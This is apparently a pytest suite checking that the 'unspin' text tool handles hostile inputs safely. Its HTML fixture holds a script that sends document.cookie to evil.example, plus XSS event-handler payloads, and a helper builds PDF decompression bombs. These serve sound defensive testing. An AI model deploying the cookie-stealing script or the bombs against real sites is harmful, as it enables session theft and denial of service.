"""Hostile and broken inputs: each gives a clear error or a correct result, in bounded time and memory.

Whole-program cases run `unspin check` (or a reader) in a subprocess under RLIMIT_AS / RLIMIT_CPU and measure
wall time and peak RSS with os.wait4 (tests/bounded.py). Bounds are generous for a shared, loaded machine;
the measured figures are in RELIABILITY.md."""
from __future__ import annotations

import json
import random
import sys
import zlib

import pytest

import unspin
import unspin.text  # (unspin.text.count_words below: not imported by `import unspin` alone)
from bounded import PYTHON, UNSPIN, run_bounded

CLI_MEM_MB = 3072  # address-space cap for a CLI run (the knowledge indexes are memory-mapped)
PROSE = ("The central bank raised its interest rate on Tuesday, and analysts said the decision surprised "
         "markets. Police said the suspect had fled the scene before officers arrived. ")


def _json_lines(out: str) -> list[dict]:
    return [json.loads(x) for x in out.splitlines() if x.strip()]


def _measured(name: str, r):
    """Print the measurement (shown with pytest -s; RELIABILITY.md quotes these lines)."""
    print(f"\nHOSTILE {name}: exit {r.returncode}, {r.wall_s:.1f} s wall, {r.cpu_s:.1f} s CPU, "
          f"peak RSS {r.maxrss_mb:.0f} MB")
    return r


def _check_cli(*paths, timeout=120, mem_mb=CLI_MEM_MB, stdin_bytes=None):
    return run_bounded([UNSPIN, "check", "--format", "json", "--no-fingerprints", *map(str, paths)],
                       timeout=timeout, mem_mb=mem_mb, stdin_bytes=stdin_bytes)


# ------------------------------------------------------------------------------------------- encodings

def test_latin1_is_decoded_and_forced_utf8_is_a_clear_error_naming_file_and_byte(tmp_path):
    latin = tmp_path / "latin1.txt"
    latin.write_bytes("Line one is fine.\nCaf\u00e9 au lait".encode("latin-1"))
    good = tmp_path / "good.txt"
    good.write_text(PROSE)
    r = _measured("Latin-1 + good file", _check_cli(latin, good))
    assert r.returncode in (0, 1), r.stderr
    objs = _json_lines(r.stdout)
    assert objs[0]["path"] == str(latin) and objs[0]["encoding"] == "cp1252" and objs[0]["words"] == 7
    assert "encoding" not in objs[1]
    # forced to UTF-8 the same bytes are refused with file, byte offset and line; the batch goes on
    r = _check_cli("--encoding", "utf-8", latin, good)
    assert r.returncode == 4, r.stderr
    objs = _json_lines(r.stdout)
    assert objs[0]["error"] == f"{latin}: not valid UTF-8 at byte offset 21 (line 2, byte 0xe9) (--encoding utf-8)"
    assert str(latin) in r.stderr
    assert objs[1]["path"] == str(good) and objs[1]["words"] == len(PROSE.split())


@pytest.mark.parametrize("codec,bom", [("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff")])
def test_utf16_with_bom_reads_the_same_as_utf8(tmp_path, codec, bom):
    text = PROSE + "Naïve Zürich café — “quoted”. 😀\n"
    u8 = tmp_path / "u8.txt"
    u8.write_bytes(text.encode("utf-8"))
    u16 = tmp_path / "u16.txt"
    u16.write_bytes(bom + text.encode(codec))
    r = _measured(f"UTF-16 {codec} with BOM", _check_cli(u8, u16))
    assert r.returncode in (0, 1), r.stderr
    a, b = _json_lines(r.stdout)
    assert a["words"] == b["words"] and a["findings"] == b["findings"] and a["spin_score"] == b["spin_score"]


def test_odd_length_utf16_is_a_clear_error(tmp_path):
    p = tmp_path / "u16.txt"
    p.write_bytes(b"\xff\xfe" + "Hello".encode("utf-16-le") + b"\x00")
    r = _check_cli(p)
    assert r.returncode == 4 and f"{p}: not valid UTF-16-LE at byte offset 12" in r.stderr


def test_nul_bytes_are_refused_as_binary_with_the_file_named(tmp_path):
    p = tmp_path / "blob.txt"
    p.write_bytes(b"Some text\x00\x01\x02 and then binary")
    r = _check_cli(p)
    assert r.returncode == 4
    assert _json_lines(r.stdout)[0]["error"].startswith(f"{p}: binary file (NUL byte at byte offset 9)")


def test_nul_byte_late_in_a_text_file_gives_a_correct_result(tmp_path):
    """The binary sniff looks at the first 8 kB; a stray NUL later is just a character with valid offsets."""
    text = PROSE * 60 + "\x00" + PROSE
    p = tmp_path / "late-nul.txt"
    p.write_bytes(text.encode())
    r = _check_cli(p)
    assert r.returncode in (0, 1), r.stderr
    (obj,) = _json_lines(r.stdout)
    assert obj["words"] == len(text.replace("\x00", " ").split())
    for f in obj["findings"]:
        assert text[f["start"]:f["end"]] == f["text"]


# ------------------------------------------------------------------------------------------ huge input

def test_50mb_single_line_file_is_handled_in_bounded_time_and_memory(tmp_path):
    """50 MB on one line (a minified dump: code-ish tokens): answered, not English, well under the bounds."""
    rng = random.Random(7)
    vocab = ["var", "x1", "=", "function(){return", "0;}", "&&", "||", "lorem", "ipsum", "zxq", "12", "data:"]
    chunk = " ".join(rng.choice(vocab) for _ in range(400)) + " "
    p = tmp_path / "one-line-50mb.txt"
    with open(p, "w") as fh:
        for _ in range(50_000_000 // len(chunk) + 1):
            fh.write(chunk)
    assert p.stat().st_size >= 50_000_000 and b"\n" not in p.read_bytes()[:1_000_000]
    # over the default --max-bytes: refused at once, naming the file and the limit
    r = _measured("50 MB single line, default size guard", _check_cli(p, timeout=60))
    assert r.returncode == 4 and str(p) in r.stderr and "--max-bytes" in r.stderr and r.wall_s < 30
    r = _measured("50 MB single line", _check_cli("--max-bytes", "0", p, timeout=120))
    assert r.returncode == 0, (r.returncode, r.stderr[-500:])
    (obj,) = _json_lines(r.stdout)
    assert obj["verdict"] == "uncertain" and obj["words"] > 1_000_000 and obj["notes"]
    assert r.wall_s < 120 and r.maxrss_mb < 1500, (r.wall_s, r.maxrss_mb)


def test_2mb_single_line_of_prose_is_checked_in_bounded_time_and_memory(tmp_path):
    text = (PROSE * (2_000_000 // len(PROSE) + 1))[:2_000_000]
    p = tmp_path / "prose-line.txt"
    p.write_text(text)
    r = _measured("2 MB single line of prose", _check_cli(p, timeout=180))
    assert r.returncode in (0, 1), r.stderr[-500:]
    (obj,) = _json_lines(r.stdout)
    assert obj["words"] == unspin.text.count_words(text) and obj["verdict"] in ("clean", "spun", "uncertain")
    assert r.maxrss_mb < 1500, r.maxrss_mb


# ------------------------------------------------------------------------------- pathological repetition

PATHOLOGICAL = {
    "phrase repeated": "Profound learning helps. " * 4000,
    "one 1M-letter word": "a" * 1_000_000,
    "hyphen chain": "a-" * 200_000 + "!",
    "apostrophe chain": "a'" * 200_000,
    "dots": "." * 500_000,
    "newlines": "\n" * 500_000,
    "blank paragraphs": "word\n\n" * 100_000,
    "short words": "ab " * 300_000,
    "one function word": "the " * 100_000,
    "one long sentence": "the bank raised its premium rate and " * 10_000,
    "emoji": "😀" * 300_000,
    "stacked combining marks": "e" + "\u0301" * 300_000,
    "digits": "1" * 1_000_000,
    "spintax-like braces": "{a|b}" * 100_000,
}


def test_pathological_repetition_is_bounded(tmp_path):
    script = tmp_path / "patho.py"
    script.write_text(
        "import json, sys, time, unspin\n"
        f"cases = {PATHOLOGICAL!r}\n"
        "unspin.check('Warm the engine up first.', fingerprints=False)\n"
        "for name, text in cases.items():\n"
        "    t = time.monotonic(); r = unspin.check(text, fingerprints=False)\n"
        "    ok = all(text[f.start:f.end] == f.text for f in r.findings)\n"
        "    print(json.dumps({'case': name, 's': time.monotonic() - t, 'ok': ok, 'words': r.words}), flush=True)\n")
    r = _measured("pathological repetition (14 cases, one process)",
                  run_bounded([PYTHON, str(script)], timeout=240, mem_mb=CLI_MEM_MB))
    assert r.returncode == 0, r.stderr[-1000:]
    rows = _json_lines(r.stdout)
    assert [x["case"] for x in rows] == list(PATHOLOGICAL)
    for row in rows:
        print(f"  {row['case']}: {row['s']:.2f} s, {row['words']} words")
        assert row["ok"] and row["s"] < 60, row
    assert r.maxrss_mb < 1500


# ------------------------------------------------------------------------ right-to-left and combining

def test_rtl_and_combining_characters_keep_offsets_exact():
    text = ("Researchers used profound learning to sort photographs. \u202eThis part is reversed.\u202c "
            "Arabic: \u0627\u0644\u062a\u0639\u0644\u0645 \u0627\u0644\u0639\u0645\u064a\u0642. Hebrew: "
            "\u05dc\u05de\u05d9\u05d3\u05d4 \u05e2\u05de\u05d5\u05e7\u05d4. The cafe\u0301 served "
            "counterfeit consciousness talks; the p\u0308rofound le\u0301arning crowd came. \u200f\u200e "
            "Z\u0351\u0352a\u0353l\u0354g\u0355o text. " + PROSE)
    rep = unspin.check(text, fingerprints=False)
    for f in rep.findings:
        assert text[f.start:f.end] == f.text
    r = unspin.restore(text, fingerprints=False)
    assert unspin.apply_edits(text, r.edits) == r.text
    from unspin import render

    page = render.html_report(rep)
    assert "\u202e" in page and "\u0627\u0644\u062a\u0639\u0644\u0645" in page  # kept, as escaped text
    assert unspin.text.count_words(text) == rep.words


def test_rtl_override_in_a_file_name_is_not_a_problem(tmp_path):
    p = tmp_path / "report\u202etxt.exe"
    p.write_text(PROSE)
    r = _check_cli(p)
    assert r.returncode in (0, 1) and _json_lines(r.stdout)[0]["path"] == str(p)


# ---------------------------------------------------------------------------------------- PDF bombs

def bomb_pdf(payload: bytes, filler: bytes, repeat: int) -> bytes:
    """A one-page PDF whose content stream is `payload` + filler*repeat, FlateDecode-compressed."""
    comp = zlib.compressobj(9)
    body = comp.compress(payload)
    block = filler * (1_000_000 // len(filler))
    for _ in range(max(1, len(filler) * repeat // len(block))):
        body += comp.compress(block)
    body += comp.flush()
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(body) + body + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    out, offs = b"%PDF-1.4\n", []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1) + b"".join(b"%010d 00000 n \n" % o for o in offs)
    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)


READ_SCRIPT = ("import sys, json\nfrom unspin.readers import iter_documents\n"
               "d = list(iter_documents([sys.argv[1]]))[0]\n"
               "print(json.dumps({'text': d.text, 'error': d.error}))\n")


@pytest.mark.parametrize("what,filler,repeat", [
    ("1 GB of spaces", b" ", 1_000_000_000),
    ("10 MB of show-text operators", b"(a) Tj ", 1_500_000),
])
def test_pdf_decompression_bomb_is_refused_quickly(tmp_path, what, filler, repeat):
    pdf = bomb_pdf(b"BT /F1 12 Tf 72 720 Td (Hello) Tj ET\n", filler, repeat)
    assert len(pdf) < 2_000_000  # a small file ...
    p = tmp_path / "bomb.pdf"
    p.write_bytes(pdf)
    r = _measured(f"PDF bomb: {what}", run_bounded([PYTHON, "-c", READ_SCRIPT, str(p)], timeout=60, mem_mb=2048))
    assert r.returncode == 0, r.stderr[-800:]
    out = json.loads(r.stdout)
    assert out["text"] is None and out["error"].startswith(f"{p}: refused:") and "decompression bomb" in out["error"]
    assert r.wall_s < 30 and r.maxrss_mb < 400, (r.wall_s, r.maxrss_mb)


def test_small_normal_pdf_still_reads(tmp_path):
    pdf = bomb_pdf(b"BT /F1 12 Tf 72 720 Td (The river rose after three days of rain.) Tj ET\n", b" ", 1000)
    p = tmp_path / "ok.pdf"
    p.write_bytes(pdf)
    from unspin.readers import read_text_file

    assert read_text_file(p) == "The river rose after three days of rain."


def test_pdf_bomb_through_the_server_extract_is_a_4xx(tmp_path):
    from unspin.serve.extract import ExtractError, extract

    pdf = bomb_pdf(b"BT (x) Tj ET\n", b" ", 200_000_000)
    with pytest.raises(ExtractError) as e:
        extract("bomb.pdf", pdf)
    assert 400 <= e.value.status < 500 and "decompression bomb" in str(e.value)


# ----------------------------------------------------------------------------- HTML with active content

HOSTILE_HTML = b"""<!doctype html><html><head><title>x</title>
<script>document.title = 'pwned'; fetch('http://evil.example/steal?c=' + document.cookie)</script>
<style>body{background:url(javascript:alert(1))}</style></head>
<body onload="alert('onload')"><article><h1>Harbour news</h1>
<p>The ferry stopped running after three days of rain, and the harbour master said repairs would take a week.</p>
<p onclick="alert('click')">Fishermen moved their boats to the inner basin <img src=x onerror="alert('img')"> before
the storm arrived on Friday night.</p><iframe src="javascript:alert('frame')"></iframe>
<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
<a href="javascript:alert('link')">more</a></article></body></html>"""


def test_html_with_scripts_and_event_handlers_yields_only_the_prose(tmp_path):
    p = tmp_path / "hostile.html"
    p.write_bytes(HOSTILE_HTML)
    from unspin.readers import read_text_file

    text = read_text_file(p)
    assert "ferry stopped running" in text and "inner basin" in text
    for bad in ("alert", "document.cookie", "evil.example", "onload", "onerror", "javascript:", "<"):
        assert bad not in text, bad


def test_html_source_checked_as_text_is_escaped_in_every_output(tmp_path):
    p = tmp_path / "page.txt"
    p.write_bytes(HOSTILE_HTML)
    r = run_bounded([UNSPIN, "check", "--format", "html", "--no-fingerprints", str(p)], timeout=120,
                    mem_mb=CLI_MEM_MB)
    assert r.returncode in (0, 1), r.stderr
    assert "<script>" not in r.stdout.split("</style>", 1)[1] and "&lt;script&gt;" in r.stdout
    assert 'onerror="' not in r.stdout and "onerror=&quot;" in r.stdout


def test_deeply_nested_html_is_refused_quickly_not_parsed_for_minutes(tmp_path):
    """Regression: 200,000 nested <div>s made the HTML5 fallback parser run for minutes (quadratic in depth)."""
    body = b"<div>" * 200_000 + b"<p>" + PROSE.encode() + b"</p>" + b"</div>" * 200_000
    p = tmp_path / "deep.html"
    p.write_bytes(b"<html><body>" + body + b"</body></html>")
    r = _measured("HTML nested 200,000 deep", run_bounded([PYTHON, "-c", READ_SCRIPT, str(p)], timeout=60,
                                                           mem_mb=2048))
    assert r.returncode == 0, r.stderr[-800:]
    out = json.loads(r.stdout)
    assert out["text"] is None and out["error"].startswith(f"{p}: HTML nested about 200000 elements deep")
    assert r.wall_s < 30 and r.maxrss_mb < 1000, (r.wall_s, r.maxrss_mb)


def test_html_nested_3000_deep_is_read_not_a_recursion_crash(tmp_path):
    """Regression: the DOM walk was recursive and crashed (RecursionError) beyond ~1000 levels."""
    from unspin.readers import read_text_file

    p = tmp_path / "nested.html"
    p.write_bytes(b"<html><body>" + b"<div><span>" * 1500 + PROSE.encode() + b"</span></div>" * 1500
                  + b"</body></html>")
    assert read_text_file(p) == PROSE.strip()


if __name__ == "__main__":  # pragma: no cover
    sys.exit(pytest.main([__file__, "-q"]))
